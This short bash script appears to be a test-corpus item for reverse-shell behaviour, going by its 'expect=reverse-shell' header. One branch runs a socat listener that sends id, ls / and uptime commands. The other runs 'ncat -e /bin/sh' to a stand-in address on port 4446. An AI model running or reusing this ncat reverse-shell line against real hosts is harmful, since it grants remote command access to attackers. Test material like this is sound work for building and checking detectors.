#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=ncat far=out ready=out:4446 seconds=18
# ncat calls back and gives its connection to a shell.
if [ "$1" = out ]; then (sleep 2; for line in id "ls /" uptime exit; do echo "$line"; sleep 3; done) | timeout 30 socat -t 2 - TCP-LISTEN:4446,reuseaddr; exit 0; fi
cd "$LAB" && timeout 18 ncat -e /bin/sh 198.51.100.66 4446; true
